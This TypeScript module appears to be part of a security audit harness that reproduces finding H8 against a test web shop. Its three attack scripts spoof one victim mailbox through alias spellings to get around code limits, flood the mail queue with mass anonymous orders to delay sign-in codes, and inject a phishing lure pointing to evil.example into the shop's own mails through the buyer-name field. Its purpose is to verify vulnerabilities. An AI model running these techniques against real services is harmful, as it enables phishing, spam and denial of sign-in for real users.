import { runConcurrently } from '../../../support/concurrency.ts';
import { until } from '../../../support/until.ts';
import type { Attack } from '../attack.ts';
import type { Shop } from '../shop.ts';
import { mailsTo, requestCode, textOf } from '../stranger/member.ts';
import { checkout, lineOf, soldAs } from '../stranger/order.ts';
import { Visitor } from '../stranger/visitor.ts';

const VICTIM = 'victim@pinpu.test';

/** Texts that a loose check accepts as e-mails, and that mail libraries read as the victim's address. */
const ALIASES = [
  `1,${VICTIM}`,
  `${VICTIM}(1)`,
  `(2)${VICTIM}`,
  `<${VICTIM}>`,
  `a;${VICTIM}`,
  `"q"<${VICTIM}>`,
];

/** Waits until the server has sent all waiting mails. */
const untilSent = (shop: Shop): Promise<void> =>
  until('all mails are sent', 120_000, async () => {
    const queued = await shop.query("SELECT 1 FROM outbox_mails WHERE status = 'queued'");
    return queued.length === 0;
  });

/** The limit counts each alias as another e-mail, but for the mail server they are the same mailbox. */
export const aliases: Attack = {
  finding: 'H8',
  title: `${ALIASES.length} spellings of one mailbox, each with codes of its own`,
  run: async (shop) => {
    const script = new Visitor(shop);
    const statuses: number[] = [];
    for (const alias of ALIASES) statuses.push((await requestCode(script, alias)).status);
    await untilSent(shop);
    const accepted = statuses.filter((status) => status === 200).length;
    const arrived = mailsTo(shop.smtp, VICTIM).length;
    return { succeeded: arrived > 0, counted: `${accepted} accepted, ${arrived} mails arrived` };
  },
};

const ORDERS = 150;
const LURE = '恭喜中獎！請至 https://evil.example/領獎 登入';

/** Sends anonymous orders whose buyer's name is chosen by the sender; returns how many were accepted. */
async function orderMails(shop: Shop): Promise<number> {
  const script = new Visitor(shop);
  await shop.query("UPDATE products SET on_hand = 10000 WHERE prd_id = 'P0101'");
  const cart = await soldAs(script, 'session-1', [lineOf('P0101', 1)]);
  const answers = await runConcurrently(ORDERS, (i) =>
    checkout(script, `script-${i}`, cart, {
      cus_email: `victim-${i}@pinpu.test`,
      cus_name: LURE,
    }),
  );
  return answers.filter(({ status }) => status === 200).length;
}

/** A slow mail server, and a member who wants to sign in while many mails are waiting. */
export const codeBehindOrders: Attack = {
  finding: 'H8',
  title: `a member's code waits behind the mails of ${ORDERS} anonymous orders`,
  run: async (shop) => {
    shop.smtp.knobs.delayMs = 100;
    const placed = await orderMails(shop);
    await requestCode(new Visitor(shop, '127.0.0.3'), 'member@pinpu.test');
    const before = shop.smtp.received.length;
    await until('the code', 120_000, () => mailsTo(shop.smtp, 'member@pinpu.test').length > 0);
    const waited = Math.max(0, shop.smtp.received.length - before - 1);
    // A few may already be on their way.
    return {
      succeeded: waited > 10,
      counted: `${placed} orders; the code came after ${waited} mails`,
    };
  },
};

/** The text of a stranger at the beginning of the shop's own mails. */
export const lureInTheShopsName: Attack = {
  finding: 'H8',
  title: 'mails of the shop that begin with the words of a stranger',
  run: async (shop) => {
    const placed = await orderMails(shop);
    await untilSent(shop);
    const lures = shop.smtp.received.filter((mail) => textOf(mail).includes('evil.example')).length;
    return { succeeded: lures > 0, counted: `${placed} orders, ${lures} mails with the words` };
  },
};
